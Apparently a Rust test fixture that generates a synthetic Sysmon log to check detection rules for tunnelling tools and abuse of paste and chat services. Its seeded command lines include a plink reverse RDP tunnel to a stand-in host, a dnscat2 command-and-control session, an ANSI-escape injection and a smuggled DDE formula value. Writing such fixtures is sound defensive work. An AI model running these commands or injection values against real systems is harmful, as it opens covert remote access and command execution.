//! The Sysmon sample: two workstations, background activity, the process tree
//! explorer → cmd → powershell → plink, tunnelling tools, DNS lookups of paste and chat
//! services, and near misses.

use super::{
    Expect::{Fires, MustNotFire},
    LogBuilder, SampleLog, RULE_ABUSE_DNS, RULE_DNS_TUNNEL, RULE_TUNNELING, SYSMON_FILE,
};
use crate::evtxgen::windows::{
    sysmon_dns, sysmon_file_create, sysmon_image_load, sysmon_network, sysmon_process_create,
    sysmon_registry_set, sysmon_terminate, Connection, Host, Proc,
};
use jiff::SignedDuration;

/// A process of the sample: bob's or carol's session, or a system process.
fn proc(guid: &str, pid: u32, image: &str, command_line: &str, user: &str) -> Proc {
    let logon_guid = if user.starts_with("NT AUTHORITY") {
        "{7A1D2C3B-0000-0000-E703-000000000000}"
    } else {
        "{7A1D2C3B-1F00-6668-6A4F-070000000000}"
    };
    Proc::new(
        format!("{{{guid}}}"),
        pid,
        image,
        command_line,
        user,
        logon_guid,
        "0x74f6a",
    )
}

const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CHROME: &str = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
const SVCHOST: &str = "C:\\Windows\\System32\\svchost.exe";
/// What the two pastebin.com lookups resolved to (identical, so they group together).
const PASTEBIN_RESULTS: &str = "::ffff:104.20.68.143;::ffff:172.67.34.170;::ffff:104.20.67.143;";

/// The Sysmon log. Record ids are fixed: see `docs/EVTXGEN.md`.
pub(super) fn log() -> SampleLog {
    let mut b = LogBuilder::new(SYSMON_FILE, "2024-06-11T08:00:00Z");
    let ws1 = Host::new("WS01.corp.example");
    let mut ws2 = Host::new("WS02.corp.example");
    ws2.sysmon_pid = 3104;

    let bob = "CORP\\bob";
    let carol = "CORP\\carol";
    let system = "NT AUTHORITY\\SYSTEM";
    let userinit = proc(
        "7A1D2C3B-1F00-6668-1500-000000002E00",
        3988,
        "C:\\Windows\\System32\\userinit.exe",
        "C:\\Windows\\system32\\userinit.exe",
        bob,
    );
    let explorer = proc(
        "7A1D2C3B-1F05-6668-1A00-000000002E00",
        4012,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        bob,
    );
    let cmd = proc(
        "7A1D2C3B-2A10-6668-3C01-000000002E00",
        5120,
        "C:\\Windows\\System32\\cmd.exe",
        "\"C:\\Windows\\system32\\cmd.exe\" ",
        bob,
    );
    let powershell = proc(
        "7A1D2C3B-2A31-6668-4101-000000002E00",
        6248,
        PS,
        "powershell.exe -NoProfile -ExecutionPolicy Bypass",
        bob,
    );
    let plink = proc(
        "7A1D2C3B-2B02-6668-5201-000000002E00",
        7316,
        "C:\\Users\\bob\\Downloads\\plink.exe",
        "plink.exe -ssh -N -R 4444:127.0.0.1:3389 -pw Summer2024 tunnel@203.0.113.50",
        bob,
    );
    let chrome = proc(
        "7A1D2C3B-1F30-6668-2200-000000002E00",
        3340,
        CHROME,
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ",
        bob,
    );
    let svchost1 = proc(
        "7A1D2C3B-0A01-6668-0B00-000000002E00",
        1184,
        SVCHOST,
        "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
        "NT AUTHORITY\\NETWORK SERVICE",
    );
    let services1 = proc(
        "7A1D2C3B-0A00-6668-0500-000000002E00",
        668,
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\system32\\services.exe",
        system,
    );

    // WS02 (carol).
    let userinit2 = proc(
        "5C3E9A11-1F00-6668-1500-000000003100",
        3860,
        "C:\\Windows\\System32\\userinit.exe",
        "C:\\Windows\\system32\\userinit.exe",
        carol,
    );
    let explorer2 = proc(
        "5C3E9A11-1F06-6668-1900-000000003100",
        3900,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        carol,
    );
    let cmd2 = proc(
        "5C3E9A11-3001-6668-2A01-000000003100",
        4410,
        "C:\\Windows\\System32\\cmd.exe",
        "\"C:\\Windows\\system32\\cmd.exe\" ",
        carol,
    );
    let updater = proc(
        "5C3E9A11-3105-6668-3301-000000003100",
        6400,
        "C:\\Users\\Public\\updater.exe",
        "C:\\Users\\Public\\updater.exe /silent",
        carol,
    );
    let svchost2 = proc(
        "5C3E9A11-0A01-6668-0B00-000000003100",
        1212,
        SVCHOST,
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        system,
    );

    // 1-10: logons and background.
    let t = b.after(5);
    b.add(sysmon_process_create(&ws1, t, &explorer, &userinit));
    let t = b.after(2);
    b.add(sysmon_image_load(
        &ws1,
        t,
        &explorer,
        "C:\\Windows\\System32\\shell32.dll",
    ));
    let t = b.after(3);
    b.add(sysmon_process_create(&ws2, t, &explorer2, &userinit2));
    let t = b.after(4);
    b.add(sysmon_network(
        &ws1,
        t,
        &svchost1,
        &Connection {
            protocol: "udp",
            initiated: true,
            source: ("10.0.1.21", 55012),
            destination: ("10.0.0.2", 53),
            destination_host: "dc01.corp.example",
        },
    ));
    let t = b.after(1);
    b.add(sysmon_dns(
        &ws1,
        t,
        &svchost1,
        "settings-win.data.microsoft.com",
        "0",
        "type:  5 atm-settingsfe-prod-geo2.trafficmanager.net;::ffff:20.42.73.25;",
    ));
    let t = b.after(6);
    b.add(sysmon_process_create(&ws1, t, &chrome, &explorer));
    let t = b.after(2);
    b.add(sysmon_dns(
        &ws1,
        t,
        &chrome,
        "www.google.com",
        "0",
        "::ffff:142.250.74.36;",
    ));
    let t = b.after(1);
    b.add(sysmon_network(
        &ws1,
        t,
        &chrome,
        &Connection {
            protocol: "tcp",
            initiated: true,
            source: ("10.0.1.21", 55020),
            destination: ("142.250.74.36", 443),
            destination_host: "www.google.com",
        },
    ));
    let t = b.after(7);
    b.add(sysmon_file_create(
        &ws2,
        t,
        &explorer2,
        "C:\\Users\\carol\\Desktop\\Q2 report.docx",
    ));
    let t = b.after(3);
    b.add(sysmon_registry_set(&ws2, t, &explorer2,
        "HKU\\S-1-5-21-3623811015-3361044348-30300820-1014\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\0",
        "Binary Data"));

    // 11-18: the lineage explorer → cmd → powershell → plink, DNS to paste/chat services.
    let t = b.after(60);
    b.add(sysmon_process_create(&ws1, t, &cmd, &explorer));
    let t = b.after(9);
    b.add(sysmon_process_create(&ws1, t, &powershell, &cmd));
    let t = b.after(1);
    b.add(sysmon_image_load(&ws1, t, &powershell,
        "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Management.Automation\\System.Management.Automation.ni.dll"));
    let t = b.after(12);
    b.seed(
        sysmon_dns(&ws1, t, &powershell, "pastebin.com", "0", PASTEBIN_RESULTS),
        RULE_ABUSE_DNS,
        Fires,
        "powershell.exe resolves pastebin.com (1 of 2, same group)",
    );
    let t = b.after(20);
    b.seed(
        sysmon_dns(&ws1, t, &powershell, "pastebin.com", "0", PASTEBIN_RESULTS),
        RULE_ABUSE_DNS,
        Fires,
        "powershell.exe resolves pastebin.com (2 of 2, same group)",
    );
    let t = b.after(15);
    b.seed(
        sysmon_dns(
            &ws1,
            t,
            &powershell,
            "api.telegram.org",
            "0",
            "::ffff:149.154.167.220;",
        ),
        RULE_ABUSE_DNS,
        Fires,
        "powershell.exe resolves api.telegram.org",
    );
    let t = b.after(30);
    b.seed(
        sysmon_process_create(&ws1, t, &plink, &powershell),
        RULE_TUNNELING,
        Fires,
        "C:\\Users\\bob\\Downloads\\plink.exe -R port forward, child of powershell.exe",
    );
    let t = b.after(1);
    b.add(sysmon_network(
        &ws1,
        t,
        &plink,
        &Connection {
            protocol: "tcp",
            initiated: true,
            source: ("10.0.1.21", 55110),
            destination: ("203.0.113.50", 22),
            destination_host: "-",
        },
    ));

    // 19-25: tunnelling tools and near misses.
    let t = b.after(40);
    b.add(sysmon_process_create(&ws2, t, &cmd2, &explorer2));
    let socat = proc(
        "5C3E9A11-3020-6668-2F01-000000003100",
        5032,
        "C:\\Tools\\socat.exe",
        "socat.exe TCP-LISTEN:8443,fork TCP:10.20.30.40:443 \u{1b}[31mALL CLEAR\u{1b}[0m",
        carol,
    );
    let t = b.after(5);
    b.seed(
        sysmon_process_create(&ws2, t, &socat, &cmd2),
        RULE_TUNNELING,
        Fires,
        "C:\\Tools\\socat.exe; CommandLine holds ANSI escapes (ESC[31m)",
    );
    let iodine = proc(
        "5C3E9A11-3025-6668-3001-000000003100",
        5544,
        "C:\\Temp\\iodine.exe",
        "C:\\Temp\\iodine.exe -f -P hunter2 t1.tunnel.example =cmd|' /C calc'!A0",
        carol,
    );
    let t = b.after(8);
    b.seed(
        sysmon_process_create(&ws2, t, &iodine, &cmd2),
        RULE_DNS_TUNNEL,
        Fires,
        "C:\\Temp\\iodine.exe; CommandLine holds =cmd|' /C calc'!A0",
    );
    let dnscat = proc(
        "7A1D2C3B-2C00-6668-6001-000000002E00",
        8120,
        "C:\\Users\\bob\\dnscat2\\dnscat2.exe",
        "C:\\Users\\bob\\dnscat2\\dnscat2.exe --dns server=198.51.100.7,port=53 --secret=6b1f0c",
        bob,
    );
    let t = b.after(11);
    let mut dnscat_event = sysmon_process_create(&ws1, t, &dnscat, &cmd);
    // Written five hours after it happened: TimeCreated is the truth.
    dnscat_event.header_time = t.checked_add(SignedDuration::from_hours(5)).ok();
    b.seed(
        dnscat_event,
        RULE_DNS_TUNNEL,
        Fires,
        "C:\\Users\\bob\\dnscat2\\dnscat2.exe; record header time 5 h after TimeCreated",
    );
    let plinkx = proc(
        "5C3E9A11-3030-6668-3101-000000003100",
        6011,
        "C:\\Tools\\plinkx.exe",
        "plinkx.exe -batch backup.corp.example",
        carol,
    );
    let t = b.after(9);
    b.seed(
        sysmon_process_create(&ws2, t, &plinkx, &cmd2),
        RULE_TUNNELING,
        MustNotFire,
        "C:\\Tools\\plinkx.exe (not plink.exe)",
    );
    let iodined = proc(
        "5C3E9A11-3031-6668-3201-000000003100",
        6120,
        "C:\\Tools\\iodined.exe",
        "iodined.exe -f 10.0.0.1 t1.tunnel.example",
        carol,
    );
    let t = b.after(4);
    b.seed(
        sysmon_process_create(&ws2, t, &iodined, &cmd2),
        RULE_DNS_TUNNEL,
        MustNotFire,
        "C:\\Tools\\iodined.exe (not iodine.exe)",
    );
    let notepad = proc(
        "7A1D2C3B-2C10-6668-6101-000000002E00",
        8544,
        "C:\\Windows\\System32\\notepad.exe",
        "\"C:\\Windows\\System32\\notepad.exe\" C:\\Users\\bob\\Documents\\dnscat2.txt",
        bob,
    );
    let t = b.after(6);
    b.seed(
        sysmon_process_create(&ws1, t, &notepad, &explorer),
        RULE_DNS_TUNNEL,
        MustNotFire,
        "notepad.exe opening dnscat2.txt (only the command line says dnscat2)",
    );

    // 26-29: a user-folder program resolving Discord, and DNS near misses.
    let t = b.after(30);
    b.add(sysmon_process_create(&ws2, t, &updater, &explorer2));
    let t = b.after(2);
    b.seed(
        sysmon_dns(
            &ws2,
            t,
            &updater,
            "cdn.discordapp.com",
            "0",
            "::ffff:162.159.130.233;::ffff:162.159.133.233;",
        ),
        RULE_ABUSE_DNS,
        Fires,
        "C:\\Users\\Public\\updater.exe resolves cdn.discordapp.com",
    );
    let t = b.after(3);
    b.seed(
        sysmon_dns(&ws1, t, &chrome, "pastebin.com", "0", PASTEBIN_RESULTS),
        RULE_ABUSE_DNS,
        MustNotFire,
        "chrome.exe (Program Files) resolves pastebin.com",
    );
    let t = b.after(4);
    b.seed(
        sysmon_dns(
            &ws2,
            t,
            &updater,
            "www.example.com",
            "0",
            "::ffff:93.184.215.14;",
        ),
        RULE_ABUSE_DNS,
        MustNotFire,
        "C:\\Users\\Public\\updater.exe resolves www.example.com",
    );

    // 30 on: background.
    let t = b.after(5);
    b.add(sysmon_file_create(
        &ws2,
        t,
        &updater,
        "C:\\Users\\Public\\cache.dat",
    ));
    let t = b.after(40);
    b.add(sysmon_terminate(&ws1, t, &notepad));
    let t = b.after(3);
    b.add(sysmon_terminate(&ws1, t, &plink));
    let t = b.after(2);
    b.add(sysmon_terminate(&ws2, t, &socat));
    background(
        &mut b,
        &ws1,
        &ws2,
        &[&svchost1, &chrome, &explorer],
        &[&svchost2, &explorer2],
        &services1,
    );
    b.finish()
}

/// Benign activity after the seeded events: lookups, connections, file and registry writes.
fn background(
    b: &mut LogBuilder,
    ws1: &Host,
    ws2: &Host,
    p1: &[&Proc],
    p2: &[&Proc],
    services: &Proc,
) {
    let names = [
        "login.microsoftonline.com",
        "outlook.office365.com",
        "www.bing.com",
        "ctldl.windowsupdate.com",
        "wpad.corp.example",
        "fonts.gstatic.com",
    ];
    let task = proc(
        "7A1D2C3B-3000-6668-7001-000000002E00",
        9012,
        "C:\\Windows\\System32\\taskhostw.exe",
        "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
        "NT AUTHORITY\\SYSTEM",
    );
    let t = b.after(10);
    b.add(sysmon_process_create(ws1, t, &task, services));
    for i in 0..36usize {
        let (host, procs) = if i % 3 == 2 { (ws2, p2) } else { (ws1, p1) };
        let p = procs[i % procs.len()];
        let t = b.after(17 + (i as i64 % 5) * 3);
        let e = match i % 6 {
            0 | 3 => {
                let name = names[i % names.len()];
                let (status, results) = if name.starts_with("wpad") {
                    ("9003", "-")
                } else {
                    ("0", "::ffff:13.107.42.14;")
                };
                sysmon_dns(host, t, p, name, status, results)
            }
            1 => sysmon_network(host, t, p, &Connection {
                protocol: "tcp",
                initiated: true,
                source: ("10.0.1.21", 55200 + i as u16),
                destination: ("13.107.42.14", 443),
                destination_host: "-",
            }),
            2 => sysmon_file_create(host, t, p, &format!(
                "C:\\Windows\\Temp\\~DF{:04X}.tmp", 0x1A2B + i
            )),
            4 => sysmon_registry_set(host, t, p,
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory",
                &format!("QWORD (0x01da{:04x}-0x{:08x})", i, 0x5e0a_0000 + i)),
            _ => sysmon_image_load(host, t, p, "C:\\Windows\\System32\\winhttp.dll"),
        };
        b.add(e);
    }
}
